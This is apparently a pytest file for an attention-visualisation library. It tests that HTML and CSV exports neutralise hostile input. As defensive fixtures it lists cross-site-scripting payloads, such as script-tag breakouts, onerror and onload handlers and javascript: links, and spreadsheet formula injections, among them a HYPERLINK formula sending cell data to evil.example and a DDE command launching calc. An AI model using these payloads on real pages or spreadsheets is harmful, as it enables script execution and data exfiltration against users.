"""Exports of hostile text: nothing a visitor typed runs, in a browser or in a spreadsheet.

Every string a visitor gives travels into files that are opened later, elsewhere (a shared link
carries the sentence). These tests write HTML exports of hostile sentences and of figures with
hostile tokens, open them in Chromium with every non-file request blocked, and check what the
browser really did: no dialog, no `window.pwned`, no element the payload would have created, no
Content-Security-Policy violation, and the settings read back exactly from their JSON block.
The CSV tests read exports of formula-like sentences and tokens back with the csv module and
pandas: no text cell starts a formula, and the documented un-escaping recovers every string.
"""

from __future__ import annotations

import csv
import io
import json
import os
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import plotly.graph_objects as go
import pytest

from attnviz import Attention, views
from attnviz.__main__ import main as cli_main
from attnviz.export import (
    SETTINGS_ELEMENT_ID,
    csv_cell,
    csv_uncell,
    figure_html,
    head_csv,
    read_head_csv,
    settings_from_html,
)

# Each would run script (or add an element) if the export put it into an HTML comment or a raw
# <script> without escaping for that context. The old export wrote `--` as `- -` in a comment:
# "--->" became "- -->", which closes the comment.
HOSTILE_SENTENCES = [
    "---><script>window.pwned=1</script>",
    '--><img src=x onerror="window.pwned=1">',
    "--!><script>window.pwned=1</script>",
    "<!--<script>window.pwned=1</script>-->",
    "</script><script>window.pwned=1</script>",
    "</SCRIPT\t><svg onload=window.pwned=1>",
    "]]><script>window.pwned=1</script><![CDATA[",
    "line\u2028separator\u2029paragraph</script><iframe srcdoc='<script>parent.pwned=1</script>'>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; \"quotes\" 'single' \\ back\\slash",
]

HOSTILE_TOKENS = [
    "[CLS]",
    "</script><script>window.pwned=1</script>",
    '--><img src=x onerror="window.pwned=1">',
    "]]>",
    "<!--",
    "\u2028",
    '<a href="javascript:window.pwned=1">x</a>',
    "<svg onload=window.pwned=1>",
    "[SEP]",
]

# read in the page: what a payload would change
PROBE = """() => ({
    pwned: typeof window.pwned,
    csp: window.__csp,
    counts: Object.fromEntries(['script', 'img', 'iframe', 'object', 'embed', 'svg', 'style', 'link'].map(
        t => [t, document.getElementsByTagName(t).length])),
    links: [...document.querySelectorAll('a')].filter(a => a.hasAttribute('href') || a.hasAttribute('xlink:href'))
        .map(a => a.getAttribute('href') || a.getAttribute('xlink:href')),
    settings: (el => el ? JSON.parse(el.textContent) : null)(document.getElementById(ID)),
})""".replace("ID", json.dumps(SETTINGS_ELEMENT_ID))


def hostile_attention() -> Attention:
    n = len(HOSTILE_TOKENS)
    w = np.random.default_rng(0).random((2, 3, n, n)).astype(np.float32)
    return Attention(tokens=HOSTILE_TOKENS, weights=w / w.sum(-1, keepdims=True), model="m", text=HOSTILE_SENTENCES[0])


def benign_attention() -> Attention:
    tokens = [f"tok{i}" for i in range(len(HOSTILE_TOKENS))]
    return Attention(tokens=tokens, weights=hostile_attention().weights, model="m", text="benign")


class Chromium:
    """One offline Chromium context: every request that is not a file is aborted and recorded.
    Each export opens as a new document in the module's one tab: a fresh window, DOM and
    scripts each time (nothing of the document before survives a navigation to another file),
    and the renderer that parsed plotly.js for the last one compiles it again faster than a new
    tab's does (4.8 MB inline: a new tab per export was 1-1.5 s more each on 2 cores)."""

    def __init__(self, browser: Any, context: Any) -> None:
        self.browser = browser
        self.context = context
        self.blocked: list[str] = []
        self.dialogs: list[str] = []
        self.errors: list[str] = []
        self.page: Any = None
        context.add_init_script(
            "window.__csp = []; document.addEventListener('securitypolicyviolation',"
            " e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));"
        )
        context.route("**/*", self._route)

    def _route(self, route: Any) -> None:
        if route.request.url.startswith("file:"):
            route.continue_()
        else:
            self.blocked.append(route.request.url)
            route.abort()

    def _tab(self) -> Any:
        if self.page is None or self.page.is_closed():
            self.page = self.context.new_page()
            self.page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
            self.page.on("pageerror", lambda e: self.errors.append(str(e)))
        return self.page

    def open(self, path: Path) -> dict[str, Any]:
        """Open an export, wait for the chart, and report what the page holds (a dialog or an
        error of the document before, say from leaving it, counts against this one)."""
        page = self._tab()
        self.dialogs, self.errors = [], []
        assert page.url != path.as_uri()  # a new document, never the same one reloaded or kept
        page.goto(path.as_uri())
        page.wait_for_selector(".js-plotly-plot .main-svg", timeout=30_000)
        page.wait_for_timeout(200)  # an onerror/onload payload fires right after load
        report: dict[str, Any] = page.evaluate(PROBE)
        report.update(dialogs=self.dialogs, errors=self.errors)
        return report


@pytest.fixture(scope="module")
def chromium(_chromium_pool: Any) -> Iterator[Chromium]:
    """The test process's Chromium (tests/conftest.py), in an offline context of this module's."""
    b = _chromium_pool.get()
    context = b.new_context(offline=True)
    try:
        yield Chromium(b, context)
    finally:
        context.close()


def assert_inert(report: dict[str, Any], benign: dict[str, Any], chromium: Chromium) -> None:
    assert report["dialogs"] == [] and report["errors"] == []
    assert report["pwned"] == "undefined"
    assert report["csp"] == [], "the page tried something its policy forbids"
    assert report["counts"] == benign["counts"], "the payload added elements"
    assert report["links"] == benign["links"] == []
    assert chromium.blocked == []


def figure(view: str, att: Attention) -> go.Figure:
    if view == "raw_plotly":  # a figure that did not escape its labels: plotly.js must cope alone
        return go.Figure(
            go.Heatmap(z=att.weights[0, 0], x=att.tokens, y=[f"{t} ({i})" for i, t in enumerate(att.tokens)]),
            layout={"title": {"text": "".join(att.tokens)}},
        )
    if view == "heatmap":
        return views.heatmap(att, 0, 0)
    if view == "model_view":
        return views.model_view(att)
    if view == "head_view":
        return views.head_view(att, 0)
    return views.graph_view(att, 0, 0, threshold=0.0)


VIEWS = ["heatmap", "model_view", "head_view", "graph_view", "raw_plotly"]


@pytest.fixture(scope="module")
def benign_reports(chromium: Chromium, tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Any]]:
    """What each view's export holds in Chromium when nothing in it is hostile."""
    folder = tmp_path_factory.mktemp("benign")
    reports = {}
    for view in VIEWS:
        path = folder / f"{view}.html"
        path.write_text(figure_html(figure(view, benign_attention()), {"text": "benign"}), encoding="utf-8")
        report = chromium.open(path)
        assert report["pwned"] == "undefined" and report["csp"] == [] and report["errors"] == []
        assert report["settings"] == {"text": "benign"}
        # plotly.js, its config, the plot call and the settings block; no image, no frame
        assert report["counts"]["script"] == 4 and report["counts"]["img"] == 0 and report["counts"]["iframe"] == 0
        reports[view] = report
    return reports


@pytest.fixture(scope="module")
def benign_report(benign_reports: dict[str, dict[str, Any]]) -> dict[str, Any]:
    return benign_reports["heatmap"]


@pytest.mark.browser
@pytest.mark.parametrize("sentence", HOSTILE_SENTENCES)
def test_hostile_sentence_in_html_settings_is_inert_and_reads_back(
    sentence: str, chromium: Chromium, benign_report: dict[str, Any], tmp_path: Path
) -> None:
    settings = {"text": sentence, "model": "minilm", "layer": 2, "head": None, "options": {"note": sentence}}
    html = figure_html(views.heatmap(benign_attention(), 0, 0), settings)
    assert settings_from_html(html) == settings
    path = tmp_path / "export.html"
    path.write_text(html, encoding="utf-8")
    report = chromium.open(path)
    assert_inert(report, benign_report, chromium)
    assert report["settings"] == settings  # JSON.parse in the page gives back exactly the input


@pytest.mark.browser
@pytest.mark.parametrize("view", VIEWS)
def test_hostile_tokens_in_every_figure_are_inert(
    view: str, chromium: Chromium, benign_reports: dict[str, dict[str, Any]], tmp_path: Path
) -> None:
    att = hostile_attention()
    path = tmp_path / f"{view}.html"
    path.write_text(figure_html(figure(view, att), {"text": att.text}), encoding="utf-8")
    report = chromium.open(path)
    assert_inert(report, benign_reports[view], chromium)
    assert report["settings"] == {"text": att.text}


@pytest.mark.browser
def test_the_policy_stops_markup_even_if_escaping_failed(chromium: Chromium, tmp_path: Path) -> None:
    """Defence in depth: splice raw payloads into the body by hand (what an escaping bug would
    do); the page's Content-Security-Policy still runs only the page's own scripts."""
    html = figure_html(views.heatmap(benign_attention(), 0, 0), {"text": "x"})
    spliced = html.replace(
        "<body>",
        '<body>\n<script>window.pwned=1</script><img src=x onerror="window.pwned=2"><svg onload="window.pwned=3"></svg>',
        1,
    )
    assert spliced != html
    path = tmp_path / "spliced.html"
    path.write_text(spliced, encoding="utf-8")
    report = chromium.open(path)
    assert report["pwned"] == "undefined" and report["dialogs"] == []
    assert any(v.startswith("script-src") for v in report["csp"]), report["csp"]


@pytest.mark.browser
def test_webgl_figures_still_draw_under_the_policy(chromium: Chromium, tmp_path: Path) -> None:
    path = tmp_path / "gl.html"
    path.write_text(figure_html(go.Figure(go.Scattergl(x=[1, 2, 3], y=[1, 3, 2]))), encoding="utf-8")
    report = chromium.open(path)
    assert report["csp"] == [] and report["errors"] == [] and report["settings"] is None


def test_settings_json_block_has_nothing_html_can_see() -> None:
    text = "</script><!-- --> ]]> & \u2028\u2029 <"
    html = figure_html(go.Figure(), {"text": text})
    block = html.split(f'id="{SETTINGS_ELEMENT_ID}">', 1)[1].split("</script>", 1)[0]
    for ch in "<>&\u2028\u2029":
        assert ch not in block
    assert json.loads(block) == {"text": text}
    assert "<!--" not in html.split("<body>", 1)[0]  # no comment in the head at all


@pytest.mark.browser
def test_cli_html_of_a_hostile_sentence_is_inert(
    chromium: Chromium,
    minilm: Any,
    load_once: Callable[..., object],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """`python -m attnviz "<hostile>" --html out.html`, opened offline, against the same view of
    a benign sentence with the same model. The command runs in this process through `main(argv)`
    from a fresh directory without the deployment's settings (tests/test_cli.py ends with the
    subprocess smoke tests of the command itself)."""
    benign = tmp_path / "benign.html"
    benign.write_text(figure_html(views.model_view(minilm.attend("a calm sentence")), {"text": "b"}), encoding="utf-8")
    benign_report = chromium.open(benign)
    sentence = " ".join(HOSTILE_SENTENCES)
    for key in [k for k in os.environ if k.startswith("ATTNVIZ_")]:
        monkeypatch.delenv(key)
    monkeypatch.setattr("attnviz.__main__.load_model", load_once)
    monkeypatch.chdir(tmp_path)
    assert cli_main([sentence, "--html", "out.html"]) == 0, capsys.readouterr().err
    report = chromium.open(tmp_path / "out.html")
    assert_inert(report, benign_report, chromium)
    assert report["settings"] == {"text": sentence, "model": "minilm"}
    assert settings_from_html((tmp_path / "out.html").read_text(encoding="utf-8")) == report["settings"]


# --- CSV: no cell a spreadsheet would run -----------------------------------------------------

FORMULA_TOKENS = [
    "=1+1",
    "+SUM(A1)",
    "-2+3",
    "@cmd",
    "\t=x",
    "\r=x",
    "\n=x",
    "=",
    "+",
    "-",
    "@",
    "a,b",
    'q"uote',
    "new\nline",
    "'=already quoted",
    "''@twice",
    "'",
    "it's",
    "\0=x",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
]
FORMULA_SENTENCES = [
    '=HYPERLINK("http://evil.example/?"&A1, "a, b")',
    "+SUM(A1:A9), then -2+3\n@cmd|' /C calc'!A0",
    '\t=1+1, "quoted, with commas"\r\nand a second line',
    "-",
    "'=starts with a quote",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
_BASE_SETTINGS = ["text", "model", "device", "truncated", "layer", "head"]  # then the caller's, in order


def formula_attention(text: str) -> Attention:
    n = len(FORMULA_TOKENS)
    w = np.random.default_rng(1).random((2, 2, n, n)).astype(np.float32) ** 8  # small weights too: 1e-9 and less
    return Attention(tokens=FORMULA_TOKENS, weights=w / w.sum(-1, keepdims=True), model="=model", text=text)


@pytest.mark.parametrize("text", FORMULA_SENTENCES)
@pytest.mark.parametrize(("layer", "head"), [(1, 0), (0, None)])
def test_head_csv_has_no_formula_cells_and_reads_back(text: str, layer: int, head: int | None) -> None:
    att = formula_attention(text)
    settings = {"options": {"merge_words": False}, "note": "-1 is text here", "count": -1}
    out = head_csv(att, layer, head, settings)
    rows = list(csv.reader(io.StringIO(out, newline="")))
    n = att.n
    shape = [*_BASE_SETTINGS, *settings]
    assert len(rows) == len(shape) + 1 + n
    assert all(len(r) == 2 for r in rows[: len(shape)]) and all(len(r) == n + 1 for r in rows[len(shape) :])
    numbers = {(i, j) for i in range(len(shape) + 1, len(rows)) for j in range(1, n + 1)} | {(len(shape) - 1, 1)}
    for i, row in enumerate(rows):
        for j, cell in enumerate(row):
            if (i, j) in numbers:  # numbers we wrote: plain numbers, never quoted
                float(cell)
            else:
                assert not cell.startswith(FORMULA_START), (i, j, cell)
    assert [r[0] for r in rows[: len(shape)]] == [f"# {k}" for k in shape]
    # the documented un-escaping gives back the sentence, the tokens, the numbers
    assert csv_uncell(rows[0][1]) == text
    assert [csv_uncell(c) for c in rows[len(shape)][1:]] == att.tokens
    assert [csv_uncell(r[0]) for r in rows[len(shape) + 1 :]] == att.tokens
    matrix = np.array([[float(x) for x in r[1:]] for r in rows[len(shape) + 1 :]])
    np.testing.assert_allclose(matrix, att.head(layer, head), rtol=5e-6, atol=1e-12)
    got_settings, got_tokens, got_matrix = read_head_csv(out)
    assert got_settings["text"] == text and got_settings["count"] == "-1" and got_settings["note"] == settings["note"]
    assert json.loads(got_settings["options"]) == settings["options"] and got_tokens == att.tokens
    np.testing.assert_array_equal(got_matrix, matrix)

    # pandas: the settings are the first rows (two cells each), the matrix follows them
    table = pd.read_csv(
        io.StringIO(out), skiprows=len(shape), header=None, dtype=str, keep_default_na=False, comment=None
    )
    assert table.shape == (n + 1, n + 1)
    assert [csv_uncell(c) for c in table.iloc[0, 1:]] == att.tokens
    assert [csv_uncell(c) for c in table.iloc[1:, 0]] == att.tokens
    np.testing.assert_allclose(table.iloc[1:, 1:].astype(float).to_numpy(), att.head(layer, head), atol=1e-6)
    head_rows = pd.read_csv(io.StringIO(out), nrows=len(shape), header=None, dtype=str, keep_default_na=False)
    assert csv_uncell(head_rows.iloc[0, 1]) == text
    assert not any(str(c).startswith(FORMULA_START) for c in table.iloc[0].tolist() + table.iloc[:, 0].tolist())


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+", "-2", "@", "\t=", "\r=", "\n=", "\0=", "'=", "''=", "'''+", "'", "''", "'a", "a=b", "", "=", "it's"],
)
def test_csv_cell_rule_is_reversible_and_neutral(text: str) -> None:
    cell = csv_cell(text)
    assert csv_uncell(cell) == text
    assert not cell.startswith(FORMULA_START)
    assert cell == text or cell == "'" + text


@pytest.mark.browser
def test_png_download_still_works_under_the_policy(chromium: Chromium, tmp_path: Path) -> None:
    """The policy must not cost the reader plotly's own 'download as PNG' button."""
    path = tmp_path / "heatmap.html"
    path.write_text(figure_html(views.heatmap(benign_attention(), 0, 0), {"text": "x"}), encoding="utf-8")
    context = chromium.browser.new_context(offline=True, accept_downloads=True)
    try:
        page = context.new_page()
        page.goto(path.as_uri())
        page.wait_for_selector(".js-plotly-plot .main-svg", timeout=30_000)
        page.hover(".js-plotly-plot")
        with page.expect_download(timeout=30_000) as download:
            page.locator(".modebar-btn[data-title*='PNG']").click()
        png = Path(download.value.path()).read_bytes()
    finally:
        context.close()
    assert png.startswith(b"\x89PNG\r\n\x1a\n") and len(png) > 1000
